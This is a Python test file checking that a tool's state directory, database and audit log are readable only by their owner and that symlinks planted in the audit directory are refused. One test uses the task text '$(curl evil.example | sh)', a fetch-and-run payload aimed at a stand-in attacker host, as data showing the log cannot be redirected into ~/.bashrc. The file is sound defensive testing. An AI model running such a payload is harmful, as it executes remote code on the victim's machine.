"""Who may read the state: the state dir, the database and the audit log hold task texts; only their user may."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from router_core.audit import JsonlAuditLog, utc_day
from router_core.audit_writer import PREFIX
from router_core.clock import FakeClock
from router_core.errors import StateUnusable
from router_core.settings import AuditSettings
from router_core.store.db import Database


@pytest.fixture
def usual_umask():
    old = os.umask(0o022)  # most machines': files 0644, directories 0755
    yield
    os.umask(old)


def mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


def test_a_new_state_dir_and_database_are_this_users_only(tmp_path, usual_umask):
    # Before, under umask 022 the state dir was 0755 and state.db (stored corrections hold task texts) 0644:
    # any user of the machine could copy it.
    state = tmp_path / "home" / ".switchboard"
    db = Database(state / "state.db")
    try:
        db.connection().execute("CREATE TABLE t (x)")
        db.connection().execute("INSERT INTO t VALUES (1)")  # the WAL and its index now exist
        assert mode(tmp_path / "home") == 0o700 and mode(state) == 0o700
        for name in ("state.db", "state.db-wal", "state.db-shm"):
            assert mode(state / name) == 0o600, name
    finally:
        db.close()


def test_a_new_audit_dir_is_this_users_only(tmp_path, usual_umask, clock: FakeClock):
    log = JsonlAuditLog(tmp_path / "state" / "audit", AuditSettings(), clock)
    try:
        log.append({"task_description": "the customer's schema"})
        assert mode(tmp_path / "state") == 0o700 and mode(tmp_path / "state" / "audit") == 0o700
        assert {mode(p) for p in (tmp_path / "state" / "audit").iterdir()} == {0o600}
    finally:
        log.close()


def test_an_existing_state_dir_and_database_keep_their_modes(tmp_path, usual_umask):
    # A directory (or database) the user made themselves, shared by a group perhaps, is left as they made it.
    tmp_path.joinpath("shared").mkdir(mode=0o750)
    os.chmod(tmp_path / "shared", 0o750)
    Database(tmp_path / "shared" / "state.db").close()
    os.chmod(tmp_path / "shared" / "state.db", 0o640)
    Database(tmp_path / "shared" / "state.db").close()
    assert mode(tmp_path / "shared") == 0o750 and mode(tmp_path / "shared" / "state.db") == 0o640


def test_an_audit_part_planted_as_a_symlink_is_not_written_through(tmp_path, clock: FakeClock):
    # Before, a symlink put where today's part was due (by anyone who can write to the audit dir) was followed:
    # lines holding host-written task text were appended to its target, ~/.bashrc say.
    audit = tmp_path / "audit"
    audit.mkdir()
    target = tmp_path / "bashrc"
    target.write_text("# mine\n")
    day = utc_day(clock.now())
    (audit / f"{PREFIX}-{day}.jsonl").symlink_to(target)
    log = JsonlAuditLog(audit, AuditSettings(), clock)
    try:
        with pytest.raises(StateUnusable) as caught:
            log.append({"task_description": "$(curl evil.example | sh)"})
    finally:
        log.close()
    assert target.read_text() == "# mine\n"
    message = str(caught.value)
    assert f"{PREFIX}-{day}.jsonl is a symbolic link" in message and "delete the link" in message


def test_a_lock_file_planted_as_a_symlink_is_not_followed(tmp_path, clock: FakeClock):
    audit = tmp_path / "audit"
    audit.mkdir()
    (audit / f".{PREFIX}.lock").symlink_to(tmp_path / "elsewhere")
    log = JsonlAuditLog(audit, AuditSettings(), clock)
    try:
        with pytest.raises(StateUnusable, match="is a symbolic link"):
            log.append({"task_description": "x"})
    finally:
        log.close()
    assert not (tmp_path / "elsewhere").exists()  # O_CREAT through the link would have made it
